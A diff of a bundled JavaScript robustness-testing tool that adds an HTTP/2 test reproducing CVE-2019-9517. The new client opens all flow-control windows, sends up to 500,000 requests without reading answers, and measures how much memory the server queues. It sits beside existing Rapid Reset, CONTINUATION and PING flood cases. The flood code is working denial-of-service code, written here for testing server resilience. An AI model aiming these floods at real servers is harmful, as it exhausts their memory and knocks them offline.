@@ -28988,7 +28988,7 @@ var init_judgement = __esm({
 
 // src/cases/data/budgets.ts
 function memoryBudgetOf(def, budgets) {
-  const own2 = def.attackBudget?.memoryGrowth ?? (def.attack !== void 0 ? MEMORY_GROWTH.small : Number.POSITIVE_INFINITY);
+  const own2 = def.attackBudget?.memoryGrowth ?? def.attack?.memoryGrowth ?? (def.attack !== void 0 ? MEMORY_GROWTH.small : Number.POSITIVE_INFINITY);
   return Math.min(own2, budgets.memoryGrowth);
 }
 function cpuBudgetOf(def, budgets) {
@@ -29024,7 +29024,14 @@ var init_budgets = __esm({
        * A 16 MiB message held with its echo, which cannot leave: a few copies of it (its fragments, the
        * message, the echo queued); the bundled ws client grew 66 MiB.
        */
-      echo: 128 * 1024 * 1024
+      echo: 128 * 1024 * 1024,
+      /**
+       * Requests read while their answers could not leave (17.5.5): a fixed server reads about 100,000
+       * before the kernel's buffers fill and it stops, and grows by it (Node.js 12.8.1: 58 MiB, the
+       * bundled server on Node.js 20.20: 91 MiB): about twice that. 12.8.0, reading on, grew 155-172 MiB
+       * (it fails on the answers it held).
+       */
+      answers: 192 * 1024 * 1024
     };
   }
 });
@@ -31576,6 +31583,10 @@ var init_attacks_h2 = __esm({
       pingFlood: {
         id: "CVE-2019-9512 (HTTP/2 ping flood)",
         what: "a client sends PINGs and never reads the acknowledgements, which pile up in the server's memory; nghttp2 1.39.2 ends the connection once 1,000 frames wait in its outbound queue, Node.js took it in 10.16.3 and 12.8.1"
+      },
+      internalBuffering: {
+        id: "CVE-2019-9517 (HTTP/2 internal data buffering)",
+        what: "a client opens every HTTP/2 window but reads nothing, so TCP holds the answers back, and sends request after request: a server that reads on queues every answer in its own memory; Node.js took it in 10.16.3 and 12.8.1 (an Http2Session stops reading while a write of its own waits), nginx in 1.16.1"
       }
     };
     H2Budgets = {
@@ -31589,6 +31600,20 @@ var init_attacks_h2 = __esm({
       /** PINGs (17 bytes each, 34 MB): past loopback's buffers at both ends (tens of MiB under load) and then nghttp2's queue of 1,000. */
       pings: 2e6,
       pingBatch: 2e3,
+      /**
+       * Requests whose answers are never read (about 75 bytes each, 37 MB): five times what a fixed
+       * server reads before the kernel's buffers of its answers fill (Node.js 20.20 and 12.8.1: about
+       * 98,000), and enough that one reading on holds megabytes (12.8.0: 1.9 MB of 300,000).
+       */
+      requests: 5e5,
+      requestBatch: 1e3,
+      /**
+       * Bytes of answers a server may hold itself, beyond what the kernel holds, once it stopped reading:
+       * a buffer's worth. Node.js 20.20 and 12.8.1 held 0-2,627 answers of 44 bytes (a write of its own
+       * in flight, up to 115 KB); HAProxy 2.6.12, about 29,000 of 16 bytes (470 KB: its output ring);
+       * Node.js 12.8.0, reading on, 150,000 and more (3.6 MB and more).
+       */
+      answerBytesHeld: 1024 * 1024,
       /** Connections whose header block is cut by a TCP reset: Node.js 20.12.0 died within 40 here. */
       cutBlocks: 500,
       /**
@@ -31629,6 +31654,7 @@ function judgeH2Flood(f, stallMs = H2Budgets.graceMs) {
   });
   if (f.refused !== null) return verdict("FAILED", `No HTTP/2 connection to flood: ${f.refused}.`, []);
   if (f.flood === "cut-blocks") return judgeCutBlocks(f, verdict);
+  if (f.flood === "requests" && f.end === null && f.answers !== null) return judgeHeldAnswers(f, f.answers, verdict);
   const written = statedFigure("units-written", `${unit} wsgate wrote`, f.unitsWritten, "count");
   const end = f.end;
   if (end !== null) {
@@ -31654,6 +31680,25 @@ function judgeH2Flood(f, stallMs = H2Budgets.graceMs) {
     [read, written]
   );
 }
+function judgeHeldAnswers(f, answers, verdict) {
+  const taken = Math.max(f.unitsRead ?? f.unitsWritten, answers.inKernel);
+  const held = taken - answers.inKernel;
+  const answerBytes = answers.inKernel === 0 ? 0 : answers.kernelBytes / answers.inKernel;
+  const heldBytes = Math.round(held * answerBytes);
+  const budget = H2Budgets.answerBytesHeld;
+  const figures2 = [
+    budgetFigure("answer-bytes-held", "bytes of answers the server held itself (at the size of those in the kernel)", heldBytes, "bytes", budget),
+    statedFigure("answers-held", "answers the server held itself (requests it read, less the answers in the kernel)", held, "count"),
+    statedFigure("units-taken", "requests the server read", taken, "count"),
+    statedFigure("answers-in-kernel", "answers in the kernel's buffers", answers.inKernel, "count"),
+    statedFigure("units-written", "requests wsgate wrote", f.unitsWritten, "count")
+  ];
+  const where = `${n(answers.inKernel)} of their answers were in the kernel's buffers (${n(answers.kernelBytes)} bytes), ${n(held)} held by the server itself, about ${n(heldBytes)} bytes at that size (budget ${n(budget)}; wsgate then read ${n(answers.read)} answers)`;
+  const read = taken >= f.unitsWritten ? `all ${n(taken)} requests written` : `${n(taken)} of ${n(f.unitsWritten)} requests written, then stopped reading`;
+  if (heldBytes <= budget) return verdict("OK", `The server read ${read} while their answers could not leave: ${where}.`, figures2);
+  const all = taken >= f.units ? `all ${n(taken)}` : `${n(taken)} of ${n(f.unitsWritten)}`;
+  return verdict("FAILED", `The server read ${all} requests while their answers could not leave, queueing them: ${where}.`, figures2);
+}
 function judgeCutBlocks(f, verdict) {
   const cut = statedFigure("units-written", "header blocks cut by a TCP reset", f.unitsWritten, "count");
   if (f.end === null) return verdict("OK", `The server took all ${n(f.unitsWritten)} connections whose header block wsgate cut with a TCP reset.`, [cut]);
@@ -31671,11 +31716,12 @@ function floodCase(spec) {
     units: spec.units,
     batch: spec.batch,
     graceMs: H2Budgets.graceMs,
-    judge: (facts, budgets) => judgeH2Flood(facts, scaledMs(H2Budgets.graceMs, budgets))
+    judge: (facts, budgets) => judgeH2Flood(facts, scaledMs(H2Budgets.graceMs, budgets)),
+    ...spec.memoryGrowth === void 0 ? {} : { memoryGrowth: spec.memoryGrowth }
   };
   return attackCase({ ...spec, attack, maxSeconds: 60 });
 }
-var n, UNIT, rapidReset, continuationFlood, pingFlood2, cutBlocks, h2FloodServerCases;
+var n, UNIT, rapidReset, continuationFlood, pingFlood2, cutBlocks, internalBuffering, h2FloodServerCases;
 var init_s17_5_h2 = __esm({
   "src/cases/robustness/s17-5-h2.ts"() {
     "use strict";
@@ -31690,6 +31736,7 @@ var init_s17_5_h2 = __esm({
       "rapid-reset": "reset streams",
       continuation: "CONTINUATION frames",
       ping: "PINGs",
+      requests: "requests",
       "cut-blocks": "cut header blocks"
     };
     rapidReset = floodCase({
@@ -31756,10 +31803,27 @@ var init_s17_5_h2 = __esm({
       description: `Up to ${n(H2Budgets.cutBlocks)} connections, one after another, each in one write: the HTTP/2 preface, SETTINGS, HEADERS on stream 1 with an extended CONNECT and without END_HEADERS, and 20 CONTINUATION frames of a 100-byte field; then, on the next turn of wsgate's event loop, a TCP reset, while the server may still be decoding the block.`,
       expectation: "The server takes every connection and survives (Node.js 20.12.0 dies of an assertion within a few dozen); a connection refused partway is FAILED."
     });
+    internalBuffering = floodCase({
+      id: "17.5.5",
+      requirement: {
+        key: "h2-internal-buffering",
+        rfc: "RFC 9113 \xA75.2.2, \xA710.5",
+        text: `a server stops reading requests while their answers cannot leave (the client reads none, every HTTP/2 window open): it holds at most ${n(H2Budgets.answerBytesHeld)} bytes of answers beyond the kernel's buffers, or ends the connection (CVE-2019-9517: Node.js before 10.16.3 and 12.8.1 read on, queueing every answer)`,
+        subject: "requests whose answers are never read (HTTP/2 internal data buffering)"
+      },
+      flood: "requests",
+      advisory: H2Advisories.internalBuffering,
+      rfc: "RFC 9113 \xA75.2.2, \xA76.9, \xA710.5",
+      units: H2Budgets.requests,
+      batch: H2Budgets.requestBatch,
+      memoryGrowth: MEMORY_GROWTH.answers,
+      description: `After the HTTP/2 preface and SETTINGS: SETTINGS_INITIAL_WINDOW_SIZE and the connection's window opened to 2^31-1, then up to ${n(H2Budgets.requests)} requests (HEADERS on streams 1, 3, 5, ..., a GET of the WebSocket's path with END_STREAM), ${n(H2Budgets.requestBatch)} per write, each write once the socket took the one before, while wsgate reads nothing, until the server ends the connection or stops reading (it reads nothing for ${H2Budgets.graceMs / 1e3} s while a write waits or the flood's end is unread). What the server read is measured from the kernel's queues; then wsgate measures what the kernel holds of the answers and reads them: the answers within those bytes were in the kernel, the rest the server held itself.`,
+      expectation: `The server stops reading (or ends the connection) while its answers cannot leave, holding at most ${n(H2Budgets.answerBytesHeld)} bytes of them itself beyond the kernel's buffers (Node.js 12.8.1 and later: none to a few thousand answers of 44 bytes; HAProxy 2.6: about 470 KB); reading on and queueing them is FAILED.`
+    });
     h2FloodServerCases = subgroup(
       "17.5",
-      "HTTP/2 floods on one connection: Rapid Reset, CONTINUATION, PING, header blocks cut by a reset",
-      [rapidReset, continuationFlood, pingFlood2, cutBlocks]
+      "HTTP/2 floods on one connection: Rapid Reset, CONTINUATION, PING, header blocks cut by a reset, unread answers",
+      [rapidReset, continuationFlood, pingFlood2, cutBlocks, internalBuffering]
     );
   }
 });
@@ -82163,7 +82227,7 @@ function connectionQueues(socket) {
     else if (row.local === theirs && row.remote === ours) peer = row;
   }
   if (mine === void 0 || peer === void 0) return null;
-  return { ourUnacked: mine.tx, peerUnread: peer.rx };
+  return { ourUnacked: mine.tx, peerUnread: peer.rx, peerUnacked: peer.tx, ourUnread: mine.rx };
 }
 
 // src/play/case-runner.ts
@@ -86322,6 +86386,9 @@ async function runGrowth(attack, play2, stopped) {
   return { probes: run.probes, base: run.best(1), largest: run.best(largest), quarter: largest >= 4 ? run.best(quarter) : null, cap };
 }
 
+// src/fuzzing-client/attacks/h2-cut-blocks.ts
+init_h2_frames();
+
 // src/fuzzing-client/attacks/h2-flood.ts
 init_h2_frames();
 var SETTINGS_WAIT_MS = 5e3;
@@ -86331,7 +86398,11 @@ var STALL_LOOK_MS = 250;
 var END_READ_MS = 200;
 var ENABLE_CONNECT_PROTOCOL = 8;
 var CANCEL2 = Buffer.from([0, 0, 0, 8]);
-function floodFrames(flood, fields) {
+var MAX_WINDOW = 2147483647;
+var INITIAL_WINDOW = 65535;
+var DRAIN_QUIET_MS = 300;
+var DRAIN_MAX_MS = 1e4;
+function floodFrames(flood, fields, request) {
   if (flood === "rapid-reset") {
     const streamOf = (i2) => 2 * i2 + 1;
     return {
@@ -86347,6 +86418,21 @@ function floodFrames(flood, fields) {
       streamOf: () => 1
     };
   }
+  if (flood === "requests") {
+    const settings = Buffer.alloc(12);
+    settings.writeUInt16BE(4, 0);
+    settings.writeUInt32BE(MAX_WINDOW, 2);
+    settings.writeUInt16BE(1, 6);
+    settings.writeUInt32BE(0, 8);
+    const increment3 = Buffer.alloc(4);
+    increment3.writeUInt32BE(MAX_WINDOW - INITIAL_WINDOW);
+    const streamOf = (i2) => 2 * i2 + 1;
+    return {
+      head: Buffer.concat([encodeH2Frame(H2Frame.Settings, 0, 0, settings), encodeH2Frame(H2Frame.WindowUpdate, 0, 0, increment3)]),
+      unit: (i2) => encodeH2Frame(H2Frame.Headers, H2Flag.EndHeaders | H2Flag.EndStream, streamOf(i2), request),
+      streamOf
+    };
+  }
   const ping = Buffer.alloc(8);
   return {
     head: Buffer.alloc(0),
@@ -86359,11 +86445,18 @@ function floodFrames(flood, fields) {
 }
 function factsOf(attack, over) {
   const zero = { unitsWritten: 0, headBytes: 0, lastStreamId: 0, resetsIn: 0, responsesIn: 0, writingMs: 0 };
-  return { flood: attack.flood, units: attack.units, refused: null, unitsRead: null, end: null, ending: "open", ...zero, ...over };
+  return { flood: attack.flood, units: attack.units, refused: null, unitsRead: null, end: null, ending: "open", answers: null, ...zero, ...over };
 }
 function runH2Flood(target, attack, graceMs, signal) {
-  const fields = hpackBlock(probeFields(target.tls ? "https" : "http", targetHostPort(target), target.resource));
-  const frames = floodFrames(attack.flood, fields);
+  const scheme = target.tls ? "https" : "http";
+  const fields = hpackBlock(probeFields(scheme, targetHostPort(target), target.resource));
+  const get = [
+    [":method", "GET"],
+    [":scheme", scheme],
+    [":path", target.resource],
+    [":authority", targetHostPort(target)]
+  ];
+  const frames = floodFrames(attack.flood, fields, hpackBlock(get));
   return new Promise((resolve6) => {
     let flood = null;
     const refused2 = (why) => resolve6(factsOf(attack, { refused: why, unitBytes: frames.unit(0).length }));
@@ -86410,6 +86503,9 @@ var Flood = class {
   /** The server's end seen: wsgate writes no more and reads what the server wrote before it (its GOAWAY). */
   closing = false;
   done = false;
+  resolved = false;
+  /** The requests flood over: what the kernel held then, the answers read since (streams answered by HEADERS or RST_STREAM). */
+  drain = null;
   unitBytes;
   /** The preface; the flood once the server's SETTINGS allow it, or `refused` with the reason. */
   start(refused2) {
@@ -86431,8 +86527,9 @@ var Flood = class {
     );
     s.on("data", (chunk) => {
       if (this.closing && !this.done) this.readOn();
+      if (this.drain !== null) this.drainTimer();
       for (const f of this.reader.push(chunk)) {
-        if (f.type !== H2Frame.Settings || (f.flags & H2Flag.Ack) !== 0) {
+        if (this.drain !== null || f.type !== H2Frame.Settings || (f.flags & H2Flag.Ack) !== 0) {
           this.frame(f, begun);
           continue;
         }
@@ -86451,13 +86548,22 @@ var Flood = class {
   }
   /** The flood's first write, the server's read measured first (0, or null: its socket is not on this machine); the ping flood reads no more. */
   begin() {
-    if (this.attack.flood === "ping") this.socket.pause();
+    if (this.attack.flood === "ping" || this.attack.flood === "requests") this.socket.pause();
     this.read = this.sample();
     this.startedAt = performance.now();
     this.next();
   }
   /** A frame of the server's besides its SETTINGS; a GOAWAY read after its end of TCP was seen (written just before) joins that end. */
   frame(f, begun) {
+    const drain = this.drain;
+    if (drain !== null) {
+      drain.bytes += 9 + f.payload.length;
+      if ((f.type === H2Frame.Headers || f.type === H2Frame.RstStream) && f.streamId % 2 === 1 && !drain.answered.has(f.streamId)) {
+        drain.answered.add(f.streamId);
+        if (drain.bytes <= drain.kernelBytes) drain.inKernel++;
+      }
+      return;
+    }
     if (f.type === H2Frame.Ping && (f.flags & H2Flag.Ack) === 0 && this.attack.flood !== "ping")
       this.put(encodeH2Frame(H2Frame.Ping, H2Flag.Ack, 0, f.payload));
     else if (f.type === H2Frame.RstStream) this.resetsIn++;
@@ -86575,13 +86681,45 @@ var Flood = class {
     this.endAt(performance.now(), null, false);
     this.stop();
   }
-  /** The flood is over: the facts, and the connection closed. */
+  /** The flood is over: for the requests flood with the connection open, the answers read first; then the facts, and the connection closed. */
   stop() {
-    if (this.done) return;
+    if (this.done) {
+      if (this.drain !== null) this.finish();
+      return;
+    }
     this.done = true;
     clearTimeout(this.timer);
     clearTimeout(this.stallTimer);
+    if (this.attack.flood === "requests" && !this.closing && this.end === null && !this.socket.destroyed) return this.readAnswers();
+    this.finish();
+  }
+  /**
+   * What the kernel holds of the server's answers (its send queue, wsgate's receive queue, and what
+   * Node read ahead), then the connection read until the server sends nothing for DRAIN_QUIET_MS:
+   * the answers that come within those bytes were in the kernel, the others in the server.
+   */
+  readAnswers() {
+    const queues = connectionQueues(this.socket);
+    if (queues === null) return this.finish();
+    const kernelBytes = queues.peerUnacked + queues.ourUnread + this.socket.readableLength;
+    this.drain = { kernelBytes, bytes: 0, inKernel: 0, answered: /* @__PURE__ */ new Set() };
+    this.socket.once("close", () => this.finish());
+    this.timer = setTimeout(() => this.finish(), DRAIN_MAX_MS);
+    this.drainTimer();
+    this.socket.resume();
+  }
+  drainTimer() {
+    clearTimeout(this.stallTimer);
+    this.stallTimer = setTimeout(() => this.finish(), DRAIN_QUIET_MS);
+  }
+  /** The facts, once; the connection closed. */
+  finish() {
+    if (this.resolved) return;
+    this.resolved = true;
+    clearTimeout(this.timer);
+    clearTimeout(this.stallTimer);
     this.socket.destroy();
+    const drain = this.drain;
     this.resolve(
       factsOf(this.attack, {
         unitsWritten: this.written,
@@ -86593,31 +86731,14 @@ var Flood = class {
         resetsIn: this.resetsIn,
         responsesIn: this.responsesIn,
         ending: this.ending,
-        writingMs: this.startedAt === null || this.lastAt === null ? 0 : this.lastAt - this.startedAt
+        writingMs: this.startedAt === null || this.lastAt === null ? 0 : this.lastAt - this.startedAt,
+        answers: drain === null ? null : { kernelBytes: drain.kernelBytes, inKernel: drain.inKernel, read: drain.answered.size }
       })
     );
   }
 };
-var UNIT_WORDS = {
-  "rapid-reset": "streams opened (HEADERS, an extended CONNECT) and reset (RST_STREAM CANCEL)",
-  continuation: "CONTINUATION frames of one header block (HEADERS without END_HEADERS on stream 1)",
-  ping: "PING frames",
-  "cut-blocks": "connections, each an unfinished header block (HEADERS without END_HEADERS, 20 CONTINUATION frames) cut by a TCP reset"
-};
-function floodLines(f) {
-  const n3 = (v) => v.toLocaleString("en-US");
-  if (f.refused !== null) return { request: "HTTP/2 preface and SETTINGS", response: f.refused };
-  const request = `HTTP/2 preface and SETTINGS; ${n3(f.unitsWritten)} of ${n3(f.units)} ${UNIT_WORDS[f.flood]} (${n3(f.unitBytes)} bytes each) in ${n3(Math.round(f.writingMs))} ms`;
-  const end = f.end;
-  if (f.flood === "cut-blocks") {
-    const response = end === null ? `every connection accepted (${n3(f.unitsWritten)})` : `connection ${n3(end.unitsWritten + 1)} failed ${n3(Math.round(end.ms))} ms in: the server was gone`;
-    return { request, response };
-  }
-  const goaway = end?.goaway;
-  const ended = end === null ? `the connection still open when wsgate stopped${f.unitsWritten < f.units ? ": the server read no more" : ""}` : `${goaway ? `GOAWAY ${h2ErrorName(goaway.code)}, last stream ${n3(goaway.lastStreamId)}` : `TCP ${f.ending === "reset" ? "reset" : "closed"}`} ${n3(Math.round(end.ms))} ms into the flood, ${n3(end.unitsWritten)} written${end.unitsRead === null ? "" : `, ${n3(end.unitsRead)} read by the server`}`;
-  const read = f.unitsRead === null ? "what the server read not measurable (its socket is not on this machine)" : `${n3(f.unitsRead)} units read by the server at the last look`;
-  return { request, response: `${ended}; ${read}; ${n3(f.resetsIn)} RST_STREAM and ${n3(f.responsesIn)} HEADERS from the server` };
-}
+
+// src/fuzzing-client/attacks/h2-cut-blocks.ts
 var CUT_BLOCK_FRAMES = 20;
 async function runCutBlocks(target, attack, signal) {
   const fields = hpackBlock(probeFields(target.tls ? "https" : "http", targetHostPort(target), target.resource));
@@ -86678,6 +86799,31 @@ function cutOne(target, block) {
   });
 }
 var CUT_CONNECT_MS = 5e3;
+
+// src/fuzzing-client/attacks/h2-flood-lines.ts
+init_h2_frames();
+var UNIT_WORDS = {
+  "rapid-reset": "streams opened (HEADERS, an extended CONNECT) and reset (RST_STREAM CANCEL)",
+  continuation: "CONTINUATION frames of one header block (HEADERS without END_HEADERS on stream 1)",
+  ping: "PING frames",
+  requests: "requests (HEADERS, a GET with END_STREAM) whose answers wsgate does not read",
+  "cut-blocks": "connections, each an unfinished header block (HEADERS without END_HEADERS, 20 CONTINUATION frames) cut by a TCP reset"
+};
+function floodLines(f) {
+  const n3 = (v) => v.toLocaleString("en-US");
+  if (f.refused !== null) return { request: "HTTP/2 preface and SETTINGS", response: f.refused };
+  const request = `HTTP/2 preface and SETTINGS; ${n3(f.unitsWritten)} of ${n3(f.units)} ${UNIT_WORDS[f.flood]} (${n3(f.unitBytes)} bytes each) in ${n3(Math.round(f.writingMs))} ms`;
+  const end = f.end;
+  if (f.flood === "cut-blocks") {
+    const response = end === null ? `every connection accepted (${n3(f.unitsWritten)})` : `connection ${n3(end.unitsWritten + 1)} failed ${n3(Math.round(end.ms))} ms in: the server was gone`;
+    return { request, response };
+  }
+  const goaway = end?.goaway;
+  const ended = end === null ? `the connection still open when wsgate stopped${f.unitsWritten < f.units ? ": the server read no more" : ""}` : `${goaway ? `GOAWAY ${h2ErrorName(goaway.code)}, last stream ${n3(goaway.lastStreamId)}` : `TCP ${f.ending === "reset" ? "reset" : "closed"}`} ${n3(Math.round(end.ms))} ms into the flood, ${n3(end.unitsWritten)} written${end.unitsRead === null ? "" : `, ${n3(end.unitsRead)} read by the server`}`;
+  const read = f.unitsRead === null ? "what the server read not measurable (its socket is not on this machine)" : `${n3(f.unitsRead)} units read by the server at the last look`;
+  const answers = f.answers === null ? "" : `; then wsgate read ${n3(f.answers.read)} answers, ${n3(f.answers.inKernel)} of them within the ${n3(f.answers.kernelBytes)} bytes the kernel held`;
+  return { request, response: `${ended}; ${read}; ${n3(f.resetsIn)} RST_STREAM and ${n3(f.responsesIn)} HEADERS from the server${answers}` };
+}
 
 // src/fuzzing-client/attacks/probe.ts
 init_constants();
